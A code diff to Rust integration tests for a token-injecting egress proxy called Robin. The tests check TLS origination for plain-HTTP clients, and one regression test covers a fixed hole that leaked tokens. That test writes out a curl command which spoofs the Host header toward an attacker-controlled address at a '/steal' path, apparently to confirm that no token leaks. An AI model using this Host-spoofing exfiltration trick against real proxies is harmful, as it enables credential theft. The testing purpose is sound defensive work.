@@ -63,6 +63,12 @@ fn start_upstream(
 
 impl ExecWorld {
     fn new() -> Self {
+        Self::with_pod_cas(true)
+    }
+
+    /// `pod_cas`: whether the pod's trust store holds Robin's and the upstream CA (false: an
+    /// empty bundle, as in an image nobody changed for Robin).
+    fn with_pod_cas(pod_cas: bool) -> Self {
         require_privileges();
         let topo = Topology::new(1);
         let dir = TempDir::new("exec");
@@ -83,7 +89,11 @@ impl ExecWorld {
                 (AUTH, up),
                 (DEAD, dead),
             ],
-            &[pki.file("robin-ca.crt"), pki.file("upstream-ca.crt")],
+            &if pod_cas {
+                vec![pki.file("robin-ca.crt"), pki.file("upstream-ca.crt")]
+            } else {
+                Vec::new()
+            },
         );
         let upstream_log = dir.path().join("upstream.log");
         let servers = vec![
@@ -226,15 +236,82 @@ async fn curl_gets_the_current_token_with_placeholder_and_duplicates_replaced() 
     );
 }
 
+/// `java Client.java URL`: the JDK's HttpClient with its defaults (HTTP/2 first, so over
+/// `http://` it offers an h2c upgrade), printing the body.
+const JAVA_CLIENT: &str = r#"
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+
+public class Client {
+    public static void main(String[] args) throws Exception {
+        HttpResponse<String> r = HttpClient.newHttpClient().send(
+            HttpRequest.newBuilder(URI.create(args[0])).build(),
+            HttpResponse.BodyHandlers.ofString());
+        System.out.print(r.body());
+    }
+}
+"#;
+
+/// The app speaks plain `http://` and its image trusts no extra CA: Robin originates TLS to the
+/// dialled address on 443, verified for the host, and injects there.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn plain_http_is_injected_too() {
+async fn plain_http_is_originated_over_tls_for_curl_python_and_java_with_no_ca_in_the_pod() {
+    let w = ExecWorld::with_pod_cas(false);
+    let java = w.dir.path().join("Client.java");
+    std::fs::write(&java, JAVA_CLIENT).expect("writing Client.java");
+    let script = format!(
+        "curl -sS http://{RULED}/curl; echo; \
+         python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://{RULED}/python\").read().decode())'; \
+         java {} http://{RULED}/java",
+        java.display()
+    );
+    let out = stdout(&w.exec(&script).await);
+    let lines: Vec<_> = out.lines().filter(|l| !l.trim().is_empty()).collect();
+    assert_eq!(lines.len(), 3, "{out}");
+    for (line, path) in lines.iter().zip(["/curl", "/python", "/java"]) {
+        let v = json(line);
+        assert_eq!(v["path"], path, "{out}");
+        assert_eq!(
+            v["authorization"],
+            serde_json::json!([format!("Bearer {TOKEN}")]),
+            "{path}"
+        );
+        assert_eq!(
+            (v["tls"].as_bool(), v["port"].as_u64()),
+            (Some(true), Some(443)),
+            "{path}"
+        );
+    }
+    // Nothing reached the plain listener on port 80.
+    assert!(
+        w.upstream_requests().iter().all(|r| r["tls"] == true),
+        "{:?}",
+        w.upstream_requests()
+    );
+}
+
+/// The exfiltration: a captured process names a ruled host but dials another address, where
+/// its own server listens in plain HTTP. Robin used to send the token there in clear text.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ruled_host_header_to_another_address_gets_no_token() {
     let w = ExecWorld::new();
-    let v = json(&stdout(
-        &w.exec(&format!("curl -sS http://{RULED}/plain")).await,
-    ));
-    assert_eq!(
-        v["authorization"],
-        serde_json::json!([format!("Bearer {TOKEN}")])
+    let attacker: IpAddr = w.topo.extra_upstream_ip4[0].into();
+    let log = w.dir.path().join("attacker.log");
+    let _attacker = start_upstream(&w.topo, attacker, 80, None, &log);
+    let out = stdout(
+        &w.exec(&format!(
+            "curl -sS -o /dev/null -w '%{{http_code}}' -H 'Host: {RULED}' http://{attacker}/steal"
+        ))
+        .await,
+    );
+    assert_eq!(out.trim(), "502");
+    let seen = std::fs::read_to_string(&log).unwrap_or_default();
+    assert!(!seen.contains(TOKEN), "token reached the attacker: {seen}");
+    assert!(
+        seen.is_empty(),
+        "nothing reaches the dialled address: {seen}"
     );
 }
 
